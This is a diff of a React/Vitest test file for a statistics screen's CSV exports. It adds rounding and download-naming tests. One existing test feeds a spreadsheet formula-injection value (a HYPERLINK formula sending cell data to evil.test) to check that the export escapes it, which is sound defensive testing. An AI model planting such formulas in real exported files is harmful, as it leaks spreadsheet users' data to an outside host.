@@ -2,7 +2,7 @@ import { screen, waitFor, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { STATS_KPI_UNITS, STATS_KPIS, type StatsAnswer } from '@wac/shared/schemas/stats';
 import { HttpResponse, http } from 'msw';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
 import { renderScreen } from '../../test/render';
 import { ORIGIN, server } from '../../test/server';
 import { seriesCsv } from '../../components/charts/chart-card';
@@ -59,7 +59,10 @@ const noFilterOptions = () =>
 
 beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
 afterAll(() => server.close());
-afterEach(() => server.resetHandlers());
+afterEach(() => {
+  server.resetHandlers();
+  vi.restoreAllMocks();
+});
 
 describe('stats screen', () => {
   it('asks for the chosen range, shows KPIs and a table alternative per chart', async () => {
@@ -185,8 +188,53 @@ describe('stats screen', () => {
         'Date',
         ['2026-10-01', '2026-10-02'],
         [{ key: 'h', label: 'Headcount, end', color: '', values: [10, null] }],
+        0,
       ),
     ).toBe('Date,"Headcount, end"\n2026-10-01,10\n2026-10-02,\n');
+  });
+
+  it('rounds a series CSV to the decimals the chart shows, written plainly', () => {
+    expect(
+      seriesCsv(
+        'Week of',
+        ['2026-09-28', '2026-10-05', '2026-10-12'],
+        [{ key: 'r', label: 'Rate', color: '', values: [7.333333333, 1234.25, -0.04] }],
+        1,
+      ),
+    ).toBe('Week of,Rate\n2026-09-28,7.3\n2026-10-05,1234.3\n2026-10-12,0\n');
+  });
+
+  it("names a chart's downloads after the chart and the period, its figures as the table shows them", async () => {
+    const named: string[] = [];
+    const saved: Blob[] = [];
+    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
+      named.push(this.download);
+    });
+    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
+      saved.push(blob as Blob);
+      return 'blob:stats';
+    });
+    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {});
+    server.use(
+      http.get(`${ORIGIN}/api/stats`, () =>
+        HttpResponse.json({
+          ...answer('last28'),
+          weeks: [{ weekStart: '2026-09-28', attendanceRate: 91.66666666666667, latenessRate: 7.333333333 }],
+        }),
+      ),
+      ...noFilterOptions(),
+    );
+    const user = userEvent.setup();
+    renderScreen(<StatsScreen />);
+    await user.click(await screen.findByTestId('weeks-csv'));
+    expect(named).toEqual(['attendance-and-lateness-by-week-2026-10-01-2026-10-31.csv']);
+    const csv = await saved[0]!.text();
+    expect(csv).toBe('Week of,Attendance rate,Lateness rate\n2026-09-28,91.7,7.3\n');
+    // The table says the same figures.
+    await user.click(screen.getByTestId('weeks-toggle'));
+    const row = within(screen.getByTestId('weeks-table')).getAllByRole('row')[1]!;
+    expect(row).toHaveTextContent('91.7%');
+    expect(row).toHaveTextContent('7.3%');
   });
 
   it('guards the names in a series CSV against spreadsheet formulas, not its numbers', () => {
@@ -195,6 +243,7 @@ describe('stats screen', () => {
       'Type',
       ['=HYPERLINK("https://evil.test/?"&A1,"Vacation") (days)', 'Sick;@SUM(1) (days)'],
       [{ key: 't', label: '+Taken', color: '', values: [-1.5, 2] }],
+      1,
     );
     expect(csv).toBe(
       'Type,\'+Taken\n"\'=HYPERLINK(""https://evil.test/?""&A1,""Vacation"") (days)",-1.5\n"Sick;\'@SUM(1) (days)",2\n',
